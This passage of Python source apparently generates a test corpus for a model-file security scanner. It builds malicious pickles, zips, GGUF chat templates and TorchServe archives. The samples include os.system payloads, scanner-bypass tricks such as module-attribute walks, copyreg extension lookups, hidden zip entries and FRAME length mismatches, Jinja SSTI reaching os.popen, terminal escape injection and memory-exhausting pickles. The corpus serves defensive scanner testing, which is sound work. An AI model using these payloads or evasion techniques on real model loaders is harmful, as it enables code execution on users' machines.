    add("rejects/corrupt_pkl_member.zip", zbuf.getvalue(), "file.unparseable", "high",
        source=src4 + " (the zip's one .pkl member is corrupt)")
    # Class 6: terminal injection through names, globals, metadata keys and member names
    # (CVE-2021-42574 "Trojan Source" bidi overrides; OSC/CSI escapes in output of CLI tools).
    src6 = "issue 14 class 6: escape sequences and bidi controls in text from the file (CVE-2021-42574)"
    evil_mod, evil_name = "os\x1b]0;pwned\x07", "sys\u202etem\x1b[2J"
    add("terminal/global_escapes.pkl",
        b"\x80\x04" + _stack_global(evil_mod, evil_name) + _unicode(CMD, 4) + b"\x85R.",
        "pickle.unknown-call-string", "high", source=src6)
    tz = io.BytesIO()
    with zipfile.ZipFile(tz, "w", zipfile.ZIP_STORED) as z:
        z.writestr("x\x1b[2J\u202e/data.pkl", inner)
    add("terminal/member_escapes.zip", tz.getvalue(), "pickle.dangerous-global", trigger="os.system",
        source=src6)
    add("terminal/metadata_key_escapes.safetensors",
        _safetensors_with_metadata({"k\x1b]0;t\x07\u202e": base64.b64encode(inner).decode()}),
        "pickle.dangerous-global", trigger="os.system", source=src6)
    add("terminal/name\x1b[31m\u202eevil.pkl", inner, "pickle.dangerous-global", trigger="os.system",
        source=src6)


# --- bypass hunt: tricks that scored below their due (each was reported INFO/HIGH/clean before) ----
def bypasshunt_sections(add, inner: bytes) -> None:
    import gguf
    import numpy as np

    def stack_call(mod: str, name: str, arg: str = CMD) -> bytes:
        return b"\x80\x04" + _stack_global(mod, name) + _unicode(arg, 4) + b"\x85R."

    # 1. Dotted names walk module attributes (protocol 4 find_class getattr()s each part): a
    # module that imports torch/os/pickle at top level is a door to them. Was INFO (framework
    # prefix) or HIGH (unknown call) for these.
    walk = "dotted STACK_GLOBAL names walk module attributes (fickling GHSA-5j3x-jp52-966f, " \
           "modelscan issue #89)"
    for mod, name, trig in (("torch.nn.modules.module", "torch.load", "torch.load"),
                            ("torch.nn.modules.linear", "F.torch.load", "torch.load"),
                            ("torch.optim.optimizer", "functools.partial", "functools.partial"),
                            ("torch.serialization", "pickle.loads", "pickle.loads"),
                            ("torch._utils", "sys.modules", "sys"),
                            ("pathlib", "os.system", "os"),
                            ("numpy", "core._internal.sys.modules", "sys"),
                            ("collections", "_sys.modules", "sys"),
                            ("random", "_os.system", "os")):
        d = add(f"hunt/walk_{mod}.{name}.pkl", stack_call(mod, name), "pickle.dangerous-global",
                source=walk)
        _ = d, trig
    # a method of a framework class is a callable of the file's choosing, not the class
    add("hunt/framework_method_from_file.pkl",
        b"\x80\x04" + _stack_global("torch.storage", "UntypedStorage.from_file") + _unicode("/etc/passwd", 4)
        + b"\x88K\x10\x87R.", "pickle.dangerous-global", trigger="torch.storage.UntypedStorage.from_file",
        source="framework-prefix methods: torch.storage.UntypedStorage.from_file maps any file (was INFO)")
    # torch's process-wide module hooks live under the framework prefix torch.nn.modules. (was INFO)
    add("hunt/global_forward_hook.pkl",
        b"\x80\x04" + _stack_global("torch.nn.modules.module", "register_module_forward_hook")
        + _stack_global("builtins", "print") + b"\x85R.", "pickle.dangerous-global",
        trigger="torch.nn.modules.module.register_module_forward_hook",
        source="framework prefix covered torch.nn.modules.module's module-level functions: "
               "register_module_forward_hook installs a callable run on every forward of every module")
    # 2. Names outside the old denylist that write/read files, reload pickles or call callables
    for mod, name, why in (
            ("numpy.lib._npyio_impl", "load", "numpy 2 path of np.load (allow_pickle): the old entry "
                                              "numpy.lib.npyio missed it"),
            ("numpy.lib._format_impl", "read_array", "numpy 2 read_array unpickles object arrays"),
            ("torch", "save", "torch.save writes any path"),
            ("numpy", "memmap", "np.memmap(mode='w+') creates or truncates a file"),
            ("pandas", "eval", "pandas.eval evaluates expressions"),
            ("pandas", "read_csv", "reads files and URLs"),
            ("builtins", "map", "map(callable, ...) is a call gadget like functools.reduce"),
            ("itertools", "starmap", "starmap(callable, args) is a call gadget"),
            ("atexit", "register", "runs a callable at interpreter exit"),
            ("weakref", "finalize", "runs a callable when an object dies"),
            ("unittest.mock", "_importer", "imports any module by dotted name"),
            ("_frozen_importlib", "_bootstrap", "the import machinery"),
            ("logging.handlers", "SocketHandler", "opens sockets"),
            ("zipfile", "ZipFile", "ZipFile(path, 'w') truncates a file"),
            ("tarfile", "open", "extractall path traversal"),
            ("rlcompleter", "Completer.complete", "eval()s the completed text"),
            ("tkinter", "Tcl", "Tcl eval runs commands"),
            ("torch.utils.model_zoo", "load_url", "downloads and torch.loads a checkpoint"),
            ("torch.distributed.checkpoint.state_dict_loader", "load", "loads checkpoints from paths"),
            ("torch.onnx", "export", "writes files"),
            ("IPython.utils.process", "system", "IPython's shell runner"),
            ("sympy", "sympify", "sympify eval()s strings"),
            ("somepkg.shell_utils", "check_output", "a command runner re-exported by a package "
                                                    "no list names (from subprocess import check_output)")):
        add(f"hunt/name_{mod}.{name}.pkl", stack_call(mod, name, "/tmp/x"), "pickle.dangerous-global",
            trigger=f"{mod}.{name}", source=f"was HIGH (unknown call): {why}")
    # vendored code picklers: the same function/code rebuilders under another package's name
    for mod, name in (("srsly.cloudpickle.cloudpickle", "_builtin_type"),
                      ("ray.cloudpickle.cloudpickle", "_make_function"),
                      ("pickle5", "loads"), ("multiprocess.util", "spawnv_passfds")):
        add(f"hunt/vendored_{mod}.{name}.pkl", stack_call(mod, name, "CodeType"),
            "pickle.dangerous-global", trigger=f"{mod}.{name}",
            source="vendored cloudpickle/dill/pickle copies (was HIGH): cloudpickle's "
                   "_builtin_type('CodeType') + _make_function rebuild code, as in fickling's "
                   "UNSAFE_IMPORTS for cloudpickle/dill")
    # copyreg's registries filled by SETITEM, then EXT1: no GLOBAL names the target (was HIGH)
    ext = "copyreg extension registry written by the pickle itself, then EXT1 (pickle docs: EXT " \
          "looks names up in copyreg._inverted_registry); picklescan lists copyreg.add_extension only"
    add("hunt/ext_inverted_registry.pkl",
        b"\x80\x02" + _global("copyreg", "_inverted_registry") + b"K\x07" + _unicode("os", 2)
        + _unicode("system", 2) + b"\x86s0" + b"\x82\x07(" + _unicode(CMD, 2) + b"tR.",
        "pickle.dangerous-global", trigger="copyreg._inverted_registry", source=ext)
    add("hunt/ext_extension_cache_py2.pkl",
        b"\x80\x02" + _global("copy_reg", "_extension_cache") + b"K\x07" + _global("os", "system")
        + b"s0" + b"\x82\x07(" + _unicode(CMD, 2) + b"tR.",
        "pickle.dangerous-global", trigger="copyreg._extension_cache", source=ext)
    # BUILD aimed at an allowlisted class: setattr(argparse.Namespace, '__eq__', len) monkeypatches
    # the class for the whole process; every name involved is allowlisted (was clean)
    add("hunt/build_on_allowed_class.pkl",
        b"\x80\x02" + _global("argparse", "Namespace") + b"N}" + _unicode("__eq__", 2)
        + _global("builtins", "len") + b"s\x86b0" + b"}.",
        "pickle.global-mutation", trigger="argparse.Namespace",
        source="modelscan issue #85: BUILD's slot state is setattr() on whatever is on the stack")
    add("hunt/build_setattr_stack_global_mutation.pkl",
        b"\x80\x05" + _global("numpy", "prod") + b"N(" + _unicode("a", 0) + _unicode("os", 0) + b"d\x86b0}.",
        "pickle.global-mutation", trigger="numpy.prod", source="modelscan issue #85")
    # 3. BUILD sets attributes on an imported function, then STACK_GLOBAL reads them back as the
    # module and name (modelscan issue #85): what is imported is only known by running it.
    p = (b"\x80\x05" + _global("numpy", "prod") + b"N(" + _unicode("a", 0) + _unicode("os", 0) + b"d\x86b"
         + b"N(" + _unicode("b", 0) + _unicode("system", 0) + b"d\x86b0"
         + _global("numpy", "prod.a") + b"p0\n" + _global("numpy", "prod.b") + b"p1\n00"
         + b"g0\ng1\n\x93" + _unicode(CMD, 0) + b"\x85R.")
    add("hunt/build_setattr_stack_global.pkl", p, "pickle.dynamic-global",
        source="modelscan issue #85: BUILD slot state rewrites attributes read back by STACK_GLOBAL")
    # 4. A FRAME longer than the data: pickle.loads (C) stops before it, pickle._Unpickler (what
    # joblib.load reads with) runs the short frame.
    body = reduce_call("os", "system", CMD, 2) + b"."
    add("hunt/frame_longer_than_data.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + body,
        "pickle.dangerous-global", trigger="os.system",
        source="pure-Python pickle._Unpickler does not check FRAME lengths (joblib.load uses it); "
               "was a HIGH parse error with the payload unreported")
    add("hunt/frame_longer_than_data.joblib", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + body,
        "pickle.dangerous-global", trigger="os.system", source="same, named as joblib")

    # 5. GGUF chat templates that reach the interpreter (CVE-2024-34359, llama-cpp-python)
    ssti = "CVE-2024-34359 / GHSA-56xg-wfcc-g829: Jinja chat template rendered unsandboxed"
    base = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}{% endfor %}"
    templates = {
        "mro_subclasses": base + "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "template_reference": base + "{{ self._TemplateReference__context.cycler.__init__"
                                     ".__globals__.os.popen('id').read() }}",
        "escaped_underscores": base + "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "built_underscores": base + "{% set u = '_'*2 %}{{ (lipsum|attr(u ~ 'globals' ~ u)) }}",
        "split_literal": base + "{{ ''['__cla' + 'ss__']['__m' + 'ro__'] }}",
    }
    for name, text in templates.items():
        path = Path(str(add(f"hunt/gguf_template_{name}.gguf", b"", "gguf.chat-template-code",
                            source=ssti)))
        w = gguf.GGUFWriter(str(path), "llama")
        if name == "built_underscores":
            w.add_chat_template([{"name": "default", "template": base},
                                 {"name": "tool_use", "template": text}])
        else:
            w.add_chat_template(text)
        w.add_tensor("w", np.zeros(4, dtype=np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()

    # 6. TorchScript code that reaches the file system through torch's own builtins
    # (aten::save writes any path; the vocabulary check took any torch.* call as inert)
    import torch

    class M(torch.nn.Module):
        def forward(self, x):
            return x * 2
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(M()), buf)

    def file_write(n, d):
        if "/code/" in n and n.endswith(".py"):
            return d + b"\ndef persist(x: Tensor) -> Tensor:\n  torch.save(x, \"/tmp/x\")\n  return x\n"
        return d
    add("hunt/torchscript_torch_save.pt", _rewrite_zip(buf.getvalue(), file_write),
        "torchscript.foreign-call", trigger="torch.save",
        source="TorchScript aten::save / aten::from_file reach the file system (torch.load of a "
               "TorchScript archive: CVE-2025-32434 class)")

    # 7. A local entry before the first member the central directory lists: zipfile and torch
    # skip it, streaming unzippers read it first (local vs central header disagreement)
    import zlib
    benign = _torch_zip_bytes({"w": torch.zeros(2)})
    body = payload("os", "system", 2, "global-reduce")
    name = b"archive/data.pkl"
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(body), len(body),
                        len(body), len(name), 0) + name + body
    add("hunt/hidden_local_entry.pt", local + benign, "pickle.dangerous-global", trigger="os.system",
        source="local headers the central directory does not list (JFrog/Sonatype zip "
               "disagreement write-ups; picklescan GHSA-7q5r-7gvp-wc82 class): was HIGH "
               "prepended-bytes with the payload unscanned")
    add("hunt/hidden_local_entry_flag.pt", local + benign, "zip.hidden-local-entry", "high")


# --- issue 23: imports judged on their own, severities, resource bombs, members ------------------
def _bint(n: int) -> bytes:
    """LONG1: any int, as pickle writes big ones."""
    b = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(b)]) + b


def _derived_only(limit_per_module: int = 1) -> list[tuple[str, str, str]]:
    """(module, qualname, path) of stdlib code-running callables that only the derivation knows
    (no hand-written denylist entry covers them): one per top-level module."""
    from tensorscope import policy
    seen: dict[str, int] = {}
    out = []
    for dotted, why in sorted(policy.STDLIB_CODE_RUNNING.items()):
        top = dotted.split(".")[0]
        if policy.matches(dotted, policy.DENYLIST) or seen.get(top, 0) >= limit_per_module:
            continue
        parts = dotted.split(".")
        # the module part: the longest prefix that is a module (classes start upper-case)
        i = next((k for k in range(1, len(parts)) if parts[k][:1].isupper()), len(parts) - 1)
        seen[top] = seen.get(top, 0) + 1
        out.append((".".join(parts[:i]), ".".join(parts[i:]), why))
    return out


def issue23_sections(add) -> None:
    import pickle as _pickle  # used only to WRITE benign pickles (dumps), never to load

    src_wo = ("torch/_weights_only_unpickler.py refuses every one at GLOBAL; pickle.load runs them "
              "(issue 23: imports judged on their own)")

    # 1. a code-running callable only IMPORTED, then handed to an allowlisted caller that calls it
    # torch/_tensor.py: _rebuild_from_type_v2(func, new_type, args, state) runs func(*args)
    rebuild = _global("torch._tensor", "_rebuild_from_type_v2")
    for mod, name, arg in (("pstats", "Stats", "/tmp/x.prof"),          # marshal.load of a file
                           ("typing", "get_type_hints", "x"),
                           ("gettext", "c2py", "n; __import__('os').system('echo')")):
        body = (b"\x80\x02" + rebuild + b"(" + _global(mod, name) + _global("torch", "Tensor")
                + b"(" + _unicode(arg, 2) + b"t}tR.")
        add(f"i23/rebuild_from_type_v2_{mod}.{name}.pkl", body, "pickle.dangerous-global",
            trigger=f"{mod}.{name}", source=f"_rebuild_from_type_v2 (on torch's weights_only "
            f"allowlist) calls func(*args): {src_wo}")
    # ... and an unknown callable handed to it: called with the file's string (HIGH)
    add("i23/rebuild_from_type_v2_unknown.pkl",
        b"\x80\x02" + rebuild + b"(" + _global("somepkg.util", "run") + _global("torch", "Tensor")
        + b"(" + _unicode(CMD, 2) + b"t}tR.", "pickle.unknown-call-string", "high",
        trigger="somepkg.util.run", source="_rebuild_from_type_v2 calls func(*args) (torch/_tensor.py)")
    # numpy/random/_pickle.py: __generator_ctor(name, ctor) runs ctor(name)
    add("i23/numpy_generator_ctor_gadget.pkl",
        b"\x80\x02" + _global("numpy.random._pickle", "__generator_ctor") + _unicode("os", 2)
        + _global("warnings", "_getcategory") + b"\x86R.", "pickle.dangerous-global",
        trigger="warnings._getcategory",
        source="numpy.random._pickle.__generator_ctor calls bit_generator_ctor(bit_generator_name);"
               " warnings._getcategory __import__s the name (derived from the stdlib)")
    # dict(x) / OrderedDict(x) call x.keys(), an attribute BUILD sets on an allowlisted Namespace
    ns = (_global("argparse", "Namespace") + b")\x81" + b"}" + _unicode("keys", 2)
          + _global("typing", "get_type_hints") + b"sb")
    for caller in (("builtins", "dict"), ("collections", "OrderedDict")):
        add(f"i23/{caller[1]}_keys_gadget.pkl", b"\x80\x02" + _global(*caller) + ns + b"\x85R.",
            "pickle.dangerous-global", trigger="typing.get_type_hints",
            source=f"{caller[0]}.{caller[1]}(x) calls x.keys(), which BUILD set (issue 23)")
    # typing.get_type_hints(obj): eval()s string annotations that BUILD put on the object
    ann = (_global("argparse", "Namespace") + b")\x81" + b"}" + _unicode("__annotations__", 2) + b"}"
           + _unicode("x", 2) + _unicode("__import__('os').system('echo tensorscope-pwned')", 2)
           + b"ssb")
    add("i23/get_type_hints_eval.pkl", b"\x80\x02" + _global("typing", "get_type_hints") + ann
        + b"\x85R.", "pickle.dangerous-global", trigger="typing.get_type_hints",
        source="typing.get_type_hints evaluates string annotations (Python docs; typing._eval_type)")
    # LR schedulers call the lr_lambda they are given (torch/optim/lr_scheduler.py)
    for cls in ("LambdaLR", "MultiplicativeLR"):
        add(f"i23/lr_scheduler_{cls}.pkl",
            b"\x80\x02" + _global("torch.optim.lr_scheduler", cls) + b"N" + _global("builtins", "print")
            + b"\x86R.", "pickle.dangerous-global", trigger=f"torch.optim.lr_scheduler.{cls}",
            source="LambdaLR/MultiplicativeLR.__init__ call step(), which calls lr_lambda (was INFO: "
                   "the torch.optim. framework prefix)")
    # functools.partial re-exported under a framework module (was INFO: torch.optim. prefix)
    add("i23/partial_reexported.pkl",
        b"\x80\x02" + _global("torch.optim.lr_scheduler", "partial") + _global("builtins", "print")
        + _unicode(CMD, 2) + b"\x86R.", "pickle.dangerous-global",
        trigger="torch.optim.lr_scheduler.partial",
        source="torch/optim/lr_scheduler.py does `from functools import partial`; find_class "
               "resolves the re-export")
    # stdlib callables only the derivation knows (tools/derive_stdlib_gadgets.py), merely imported
    for mod, name, why in _derived_only():
        add(f"i23/derived_{mod}.{name}.pkl", b"\x80\x02" + _global(mod, name) + b".",
            "pickle.dangerous-global", trigger=f"{mod}.{name}",
            source=f"derived from the stdlib source: {why[:160]}")
    # an unknown global, imported only: at least MEDIUM (was LOW)
    add("i23/unknown_import_only.pkl", b"\x80\x02" + _global("somepkg.models", "Thing") + b".",
        "pickle.user-class", "medium", trigger="somepkg.models.Thing",
        source="unknown globals are at least medium, called or not (issue 23)")
    add("i23/unknown_library_function_import.pkl",
        b"\x80\x02" + _global("transformers.utils.import_utils", "requires_backends") + b".",
        "pickle.unknown-import", "medium", trigger="transformers.utils.import_utils.requires_backends",
        source="a library global that is not known inert, merely imported (issue 23)")
    # a framework-prefix function that is not a class (was INFO): unknown, at least MEDIUM
    add("i23/framework_prefix_function.pkl",
        b"\x80\x02" + _global("torch.nn.modules.module", "_addindent") + _unicode(CMD, 2) + b"K\x01\x86R.",
        "pickle.unknown-call-string", "high", trigger="torch.nn.modules.module._addindent",
        source="framework prefixes cover classes only (issue 23)")

    # 2. denial of service through allowlisted builtins (issue 23; CPython pickle docs warn that
    # an unpickler can be made to allocate or loop arbitrarily)
    dos = "denial of service through allowlisted builtins (issue 23)"
    add("i23/dos_sum_range.pkl", b"\x80\x02" + _global("builtins", "sum") + _global("builtins", "range")
        + _bint(10 ** 18) + b"\x85R\x85R.", "pickle.resource-bomb", "high", source=dos)
    add("i23/dos_bytes.pkl", b"\x80\x02" + _global("builtins", "bytes") + _bint(10 ** 12) + b"\x85R.",
        "pickle.resource-bomb", "high", source=dos)
    add("i23/dos_bytearray.pkl", b"\x80\x02" + _global("builtins", "bytearray") + _bint(10 ** 12)
        + b"\x85R.", "pickle.resource-bomb", "high", source=dos)
    add("i23/dos_str_repeat.pkl", b"\x80\x02" + _global("operator", "mul") + _unicode("x", 2)
        + _bint(10 ** 12) + b"\x86R.", "pickle.resource-bomb", "high", source=dos)
    add("i23/dos_list_range.pkl", b"\x80\x02" + _global("builtins", "list") + _global("builtins", "range")
        + _bint(0) + _bint(10 ** 15) + b"\x86R\x85R.", "pickle.resource-bomb", "high", source=dos)
    add("i23/dos_sorted_range_in_torch.pt",
        torch_zip_with_payload(_global("builtins", "sorted") + _global("builtins", "range")
                               + _bint(10 ** 17) + b"\x85R\x85R0"),
        "pickle.resource-bomb", "high", source=dos + ", inside a torch zip's data.pkl")

    # 3. members read as their loader reads them: a real pickle member is still judged
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("requirements.txt", "certifi\ncharset-normalizer\n")
        z.writestr("MAR-INF/MANIFEST.json", '{"model": {"handler": "image_classifier", '
                   '"serializedFile": "model.pkl"}}')
        z.writestr("model.pkl", payload("os", "system", 2, "global-reduce"))
    add("i23/mar_builtin_handler_evil_model.mar", buf.getvalue(), "pickle.dangerous-global",
        trigger="os.system", source="a built-in handler does not make the serialized model safe")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("MAR-INF/MANIFEST.json", '{"model": {"handler": "handler.py"}}')
        z.writestr("handler.py", "import os\nos.system('echo tensorscope-pwned')\n")
    add("i23/mar_custom_handler.mar", buf.getvalue(), "archive.python-source",
        source="TorchServe imports a custom handler (model-archiver README)")
    # a whole pickle named as text is still a pickle (judged whole, never skipped)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("notes.txt", payload("os", "system", 0, "global-reduce"))
    add("i23/zip_text_named_pickle.zip", buf.getvalue(), "pickle.dangerous-global",
        trigger="os.system", source="a complete protocol-0 pickle behind a text name")
    # a skops archive naming a code-running type
    import json as _json
    schema = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode",
              "protocol": 2, "_skops_version": "0.16.0", "content": {}}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("schema.json", _json.dumps(schema))
    add("i23/skops_os_system.skops", buf.getvalue(), "skops.untrusted-type", trigger="os.system",
        source="skops.io.load with trusted=... builds what schema.json names (skops docs)")
    # a .pt that torch.load rejects is never clean
    add("i23/pt_rejected.pt", b"\x80\x02}q\x00(X\x01\x00\x00\x00aK\x01", "pickle.parse-error", "high",
        source="a .pt torch.load rejects is not clean (issue 23)")
    _ = _pickle
